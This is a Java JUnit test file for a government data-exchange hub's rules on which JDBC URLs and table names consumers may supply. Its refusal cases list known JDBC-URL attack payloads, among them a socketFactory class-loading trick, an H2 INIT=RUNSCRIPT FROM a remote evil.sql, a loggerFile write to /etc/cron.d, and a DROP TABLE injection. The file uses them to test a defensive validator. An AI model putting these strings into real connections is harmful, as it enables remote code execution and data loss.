package org.govex.adapters.jdbc;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.file.Path;

import static org.assertj.core.api.Assertions.assertThat;

/** Which JDBC URLs and table names a consumer may give the hub. */
class JdbcTargetRulesTest {

    private static final Path DATA = Path.of("/var/lib/govex/data");
    private final JdbcTargetRules rules = new JdbcTargetRules(DATA, false);

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:postgresql://db.mzj.hz.gov.cn:5432/exchange",
            "jdbc:postgresql://10.12.3.4/mz_share?sslmode=verify-full&ApplicationName=govex",
            "jdbc:postgresql://pg-1:5432,pg-2:5432/mz?targetServerType=primary&connectTimeout=5",
            "jdbc:h2:tcp://h2.rsj.hz.gov.cn:9092/~/share/rsj",
            "jdbc:h2:ssl://h2.rsj.hz.gov.cn/srv/h2/rsj;MODE=PostgreSQL",
            "jdbc:h2:tcp://h2.rsj.hz.gov.cn/mem:rsj;DB_CLOSE_DELAY=-1"})
    void acceptsPostgresqlAndH2Servers(String url) {
        assertThat(rules.checkUrl(url)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "jdbc:mysql://db.mzj.hz.gov.cn/exchange | jdbcUrl.scheme",
            "jdbc:sqlite:/tmp/x.db | jdbcUrl.scheme",
            "jdbc:derby:memory:x;create=true | jdbcUrl.scheme",
            "jdbc:postgresql:exchange | jdbcUrl.postgresql",
            "jdbc:postgresql://db/mz?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://x/a.xml | jdbcUrl.parameter",
            "jdbc:postgresql://db/mz?loggerFile=/etc/cron.d/x&loggerLevel=DEBUG | jdbcUrl.parameter",
            "jdbc:postgresql://db/mz?sslfactory=org.x.Evil | jdbcUrl.parameter",
            "jdbc:postgresql://db/mz?authenticationPluginClassName=org.x.Evil | jdbcUrl.parameter",
            "jdbc:postgresql://db/mz?password=hunter2 | jdbcUrl.parameter",
            "jdbc:postgresql://db/mz?%73ocketFactory=x | jdbcUrl.parameter",
            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM http://x/evil.sql | jdbcUrl.characters",
            "jdbc:h2:mem:x;INIT=CREATE ALIAS EXEC AS $$ void e() {} $$ | jdbcUrl.characters",
            "jdbc:h2:tcp://h2.rsj.hz.gov.cn/share;INIT=runscript_from_x | jdbcUrl.h2-setting",
            "jdbc:h2:tcp://h2.rsj.hz.gov.cn/share;init=x | jdbcUrl.h2-setting",
            "jdbc:h2:tcp://h2.rsj.hz.gov.cn/share;TRACE_LEVEL_FILE=3 | jdbcUrl.h2-setting",
            "jdbc:h2:tcp://h2.rsj.hz.gov.cn/share;AUTO_SERVER=TRUE | jdbcUrl.h2-setting",
            "jdbc:h2:tcp://h2.rsj.hz.gov.cn/share;USER=sa | jdbcUrl.h2-setting",
            "jdbc:h2:tcp://h2.rsj.hz.gov.cn/../../etc/x | jdbcUrl.h2-path",
            "jdbc:h2:tcp://localhost/file:/var/lib/govex/data/govex | jdbcUrl.h2-path",
            "jdbc:h2:tcp://localhost//var/lib/govex/data/govex | jdbcUrl.hub-data",
            "jdbc:h2:file:/var/lib/govex/data/govex | jdbcUrl.hub-data",
            "jdbc:h2:/var/lib/govex/data/govex | jdbcUrl.hub-data",
            "jdbc:h2:split:/var/lib/govex/data/govex | jdbcUrl.hub-data",
            "jdbc:h2:file:/tmp/consumer | jdbcUrl.h2-embedded",
            "jdbc:h2:~/consumer | jdbcUrl.h2-embedded",
            "jdbc:h2:./consumer | jdbcUrl.h2-embedded",
            "jdbc:h2:mem:consumer | jdbcUrl.h2-in-memory"})
    void refusesOtherDatabasesAndDriverTricks(String url, String rule) {
        assertThat(rules.checkUrl(url)).get().extracting(Refusal::rule).isEqualTo(rule);
    }

    @Test
    void inProcessH2OnlyWhereTheOperatorAllowsIt() {
        JdbcTargetRules demo = new JdbcTargetRules(DATA, true);
        assertThat(demo.checkUrl("jdbc:h2:mem:consumer;DB_CLOSE_DELAY=-1")).isEmpty();
        assertThat(demo.checkUrl("jdbc:h2:mem:consumer;INIT=x")).get().extracting(Refusal::rule).isEqualTo("jdbcUrl.h2-setting");
        assertThat(demo.checkUrl("jdbc:h2:file:/tmp/consumer")).get().extracting(Refusal::rule).isEqualTo("jdbcUrl.h2-embedded");
    }

    @ParameterizedTest
    @ValueSource(strings = {"govex_population", "mz_residents", "t", "persons_2026"})
    void acceptsPlainLowerCaseTableNames(String table) {
        assertThat(JdbcTargetRules.checkTable(table)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "Persons | table.identifier", "2026_persons | table.identifier", "_persons | table.identifier",
            "persons; DROP TABLE x | table.identifier", "\"persons\" | table.identifier", "人口 | table.identifier",
            "a123456789012345678901234567890123456789012345678901234567890123 | table.identifier",
            "user | table.reserved", "order | table.reserved", "select | table.reserved"})
    void refusesOtherTableNames(String table, String rule) {
        assertThat(JdbcTargetRules.checkTable(table)).get().extracting(Refusal::rule).isEqualTo(rule);
    }
}
